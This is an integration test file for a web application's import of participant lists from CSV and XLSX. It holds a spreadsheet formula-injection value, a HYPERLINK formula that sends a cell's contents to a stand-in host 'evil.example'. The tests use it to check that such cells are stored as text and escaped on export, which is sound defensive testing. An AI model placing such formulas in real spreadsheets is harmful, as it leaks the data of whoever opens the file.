import fs from 'node:fs';
import path from 'node:path';
import { eq, inArray } from 'drizzle-orm';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { createTestContext, csrfFrom, signIn, type TestContext } from '../../../test/support/app';
import { makeMunicipality, makeUser } from '../../../test/support/builders';
import { makeCohort } from '../../../test/support/cohorts';
import { enrolmentImports, enrolments } from './table';
import { users } from '../accounts/table';
import { text } from '../../../test/support/texts';
import { auditLog } from '../../platform/audit-table';

const fixture = (name: string) => fs.readFileSync(path.join(__dirname, '../../../test/fixtures/lists', name));
const EMAILS = ['juergen.muessig@import.example', 'zoe.oersted@import.example', 'hannelore.kraemer@import.example'];

let ctx: TestContext;
beforeAll(async () => {
  ctx = await createTestContext();
});
afterAll(() => ctx.close());

/** A coordinator with an open cohort; each call uses its own municipality, so the fixtures' e-mails can be reused. */
async function setting() {
  const db = ctx.database.db;
  await db.delete(users).where(inArray(users.email, [...EMAILS, 'lukasz.import@import.example']));
  const m = await makeMunicipality(db);
  const c = await makeCohort(db, { seats: 20, quotas: [[m.id, 2]] });
  const coordinator = await makeUser(db, { role: 'coordinator', municipalityId: m.id });
  const agent = await signIn(ctx.app, coordinator.email);
  const token = csrfFrom((await agent.get(`/cohorts/${c.id}/nominate`)).text);
  const upload = (name: string, content: Buffer, csrf = token) =>
    agent.post(`/cohorts/${c.id}/imports`).field('_csrf', csrf).attach('file', content, name);
  return { db, m, c, agent, token, upload };
}

afterEach(async () => {
  await ctx.database.db
    .delete(enrolments)
    .where(
      inArray(
        enrolments.userId,
        ctx.database.db.select({ id: users.id }).from(users).where(inArray(users.email, EMAILS)),
      ),
    );
});

describe('uploading a list', () => {
  it('reads German Excel CSV (Windows-1252, semicolons), previews row by row and saves nothing yet', async () => {
    const { db, c, agent, upload } = await setting();
    const res = await upload('Teilnehmende.csv', fixture('excel-ansi.csv'));
    expect(res.status).toBe(302);
    expect(res.headers.location).toMatch(new RegExp(`^/cohorts/${c.id}/imports/\\d+$`));
    const preview = await agent.get(res.headers.location!);
    expect(preview.status).toBe(200);
    expect(preview.text).toContain('3 von 6 Zeilen können übernommen werden.');
    expect(preview.text).toContain('Müßig, Jürgen');
    expect(preview.text).toContain('Ørsted-Weiß, Zoë');
    expect(preview.text).toContain('Grundschule „Am Anger“');
    expect(preview.text).toContain(text('enrolment.row.emailMissing'));
    expect(preview.text).toContain('Unbekannter Sektor „Polizei“');
    expect(preview.text).toContain('Doppelt in der Datei (dieselbe E-Mail-Adresse wie Zeile 2).');
    expect(preview.text).toContain('=HYPERLINK(&#34;http://evil.example/?d=&#34;&amp;A1;&#34;Klick&#34;)');
    expect(preview.text).toContain('Freie Plätze für Ihre Kommune: 2.');
    expect(await db.select().from(users).where(inArray(users.email, EMAILS))).toHaveLength(0);
  });

  it('imports the valid rows in one go, invites new people, and a second import of the same file changes nothing', async () => {
    const { db, c, agent, upload } = await setting();
    const first = await upload('Teilnehmende.csv', fixture('excel-ansi.csv'));
    const token = csrfFrom((await agent.get(first.headers.location!)).text);
    const confirmed = await agent.post(first.headers.location!).type('form').send({ _csrf: token });
    expect(confirmed.status).toBe(302);
    expect((await agent.get(confirmed.headers.location!)).text).toContain(
      'Übernommen mit Platz: 2; auf der Warteliste: 1. Nicht übernommen (fehlerhaft oder schon angemeldet): 3.',
    );
    const people = await db.select().from(users).where(inArray(users.email, EMAILS));
    expect(people.map((p) => p.sector).sort()).toEqual(['bildung', 'verwaltung', 'zivilgesellschaft']);
    const hannelore = people.find((p) => p.lastName === 'Krämer')!;
    expect(hannelore.organisation).toBe('=HYPERLINK("http://evil.example/?d="&A1;"Klick")'); // stored as typed, as text
    expect(hannelore.jobTitle).toBe('@SUMME(1+1)');
    const rows = await db.select().from(enrolments).where(eq(enrolments.cohortId, c.id));
    expect(rows.map((r) => r.status).sort()).toEqual(['nominiert', 'nominiert', 'warteliste']);
    expect((await ctx.smtp.mailTo('zoe.oersted@import.example')).text).toMatch(/Nominierung|Zugang|nominiert/);
    expect(
      ctx.smtp.received.filter(
        (m) => m.to.includes('juergen.muessig@import.example') && m.subject === 'Ihr Zugang zu KoKoMa Campus',
      ),
    ).toHaveLength(1);

    // confirming the same preview again is refused
    expect((await agent.post(first.headers.location!).type('form').send({ _csrf: token })).status).toBe(409);

    // the same file again: every row is already enrolled or wrong; confirming imports nothing
    const second = await upload('Teilnehmende.csv', fixture('excel-ansi.csv'));
    const preview = await agent.get(second.headers.location!);
    expect(preview.text).toContain('0 von 6 Zeilen können übernommen werden.');
    expect(preview.text.match(/Bereits angemeldet/g)!.length).toBeGreaterThanOrEqual(3);
    expect(preview.text).toContain(text('enrolment.nothingToImport'));
    await agent.post(second.headers.location!).type('form').send({ _csrf: token });
    expect(await db.select().from(enrolments).where(eq(enrolments.cohortId, c.id))).toHaveLength(3);
    expect(await db.select().from(users).where(inArray(users.email, EMAILS))).toHaveLength(3);
  });

  it('writes formula-like cells back escaped in the CSV and XLSX exports', async () => {
    const { agent, c, upload } = await setting();
    const first = await upload('liste.csv', fixture('excel-ansi.csv'));
    const token = csrfFrom((await agent.get(first.headers.location!)).text);
    await agent.post(first.headers.location!).type('form').send({ _csrf: token });

    const csv = await agent
      .get(`/cohorts/${c.id}/participants.csv`)
      .buffer(true)
      .parse((res, cb) => {
        const chunks: Buffer[] = [];
        res.on('data', (d: Buffer) => chunks.push(d));
        res.on('end', () => cb(null, Buffer.concat(chunks)));
      });
    expect(csv.headers['content-type']).toMatch(/^text\/csv/);
    const [logged] = await ctx.database.db.select().from(auditLog).where(eq(auditLog.action, 'export.participants'));
    expect(logged).toMatchObject({ subjectType: 'cohort', subjectId: c.id, details: { rows: 3 } });
    const bytes = csv.body as Buffer;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const records = parse(bytes.subarray(3).toString('utf8'), { delimiter: ';' }) as string[][];
    expect(records[0]).toEqual([
      'Nachname',
      'Vorname',
      'E-Mail',
      'Kommune',
      'Organisation',
      'Funktion',
      'Sektor',
      'Status',
      'Grund',
    ]);
    const row = records.find((r) => r[0] === 'Krämer')!;
    expect(row[4]).toBe(`'=HYPERLINK("http://evil.example/?d="&A1;"Klick")`);
    expect(row[5]).toBe("'@SUMME(1+1)");
    expect(records.find((r) => r[0] === 'Ørsted-Weiß')![6]).toBe('Bildungseinrichtung');

    const xlsx = await agent
      .get(`/cohorts/${c.id}/participants.xlsx`)
      .buffer(true)
      .parse((res, cb) => {
        const chunks: Buffer[] = [];
        res.on('data', (d: Buffer) => chunks.push(d));
        res.on('end', () => cb(null, Buffer.concat(chunks)));
      });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx.body as ArrayBuffer);
    const ws = wb.worksheets[0]!;
    const cells: unknown[] = [];
    ws.eachRow((r) => cells.push(r.getCell(5).value));
    expect(cells).toContain(`'=HYPERLINK("http://evil.example/?d="&A1;"Klick")`);
    expect(cells.every((v) => typeof v === 'string')).toBe(true); // never a formula object
  });

  it('reads UTF-8 CSV with BOM and XLSX; an Excel formula cell arrives as text', async () => {
    const { agent, upload } = await setting();
    const utf8 = await agent.get((await upload('liste.csv', fixture('excel-utf8-bom.csv'))).headers.location!);
    expect(utf8.text).toContain('Şahin-Müller, Łukasz');
    expect(utf8.text).toContain('3 von 6 Zeilen');
    const xlsx = await agent.get((await upload('liste.xlsx', fixture('liste.xlsx'))).headers.location!);
    expect(xlsx.text).toContain('Müßig, Jürgen');
    expect(xlsx.text).toContain('=HYPERLINK(&#34;http://evil.example/&#34;,&#34;Klick&#34;)');
    expect(xlsx.text).toContain('3 von 6 Zeilen');
  });

  it('refuses files that are too large or not CSV/XLSX, with a clear message, keeping nothing', async () => {
    const { db, c, upload } = await setting();
    const before = (await db.select().from(enrolmentImports).where(eq(enrolmentImports.cohortId, c.id))).length;
    const big = Buffer.alloc(2 * 1024 * 1024 + 1, 'a');
    const tooBig = await upload('gross.csv', big);
    expect(tooBig.status).toBe(422);
    expect(tooBig.text).toContain('Die Datei ist zu groß. Erlaubt sind höchstens 2 MB.');
    const pdf = await upload(
      'liste.csv',
      Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n', 'latin1'),
    );
    expect(pdf.status).toBe(422);
    expect(pdf.text).toContain(text('enrolment.msg.fileKind'));
    const png = await upload('liste.xlsx', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0]));
    expect(png.status).toBe(422);
    const brokenZip = await upload('liste.xlsx', Buffer.from('PK\x03\x04 kaputt', 'latin1'));
    expect(brokenZip.text).toContain(text('enrolment.msg.xlsxUnreadable'));
    const empty = await upload('leer.csv', Buffer.alloc(0));
    expect(empty.status).toBe(422);
    expect(empty.text).toContain('Die Datei ist leer.');
    const columns = await upload('spalten.csv', Buffer.from('Name;Mail\nA;b@c.de\n'));
    expect(columns.text).toContain('In der ersten Zeile fehlen diese Spalten: Vorname, Sektor.');
    expect((await db.select().from(enrolmentImports).where(eq(enrolmentImports.cohortId, c.id))).length).toBe(before);
  });

  it('checks the CSRF token of an upload, and no other route accepts a multipart body', async () => {
    const { c, agent, token, upload } = await setting();
    expect((await upload('liste.csv', fixture('excel-ansi.csv'), 'falsch')).status).toBe(403);
    const sneaky = await agent
      .post(`/cohorts/${c.id}/nominations/new`)
      .field('_csrf', token)
      .field('firstName', 'X')
      .field('lastName', 'Y')
      .field('email', 'sneaky@test.example')
      .field('sector', 'bildung');
    expect(sneaky.status).toBe(403);
  });

  it('keeps previews to their author and municipality (404 otherwise)', async () => {
    const { upload } = await setting();
    const res = await upload('Teilnehmende.csv', fixture('excel-ansi.csv'));
    const other = await setting();
    expect((await other.agent.get(res.headers.location!)).status).toBe(404);
    expect((await other.agent.post(res.headers.location!).type('form').send({ _csrf: other.token })).status).toBe(404);
  });
});
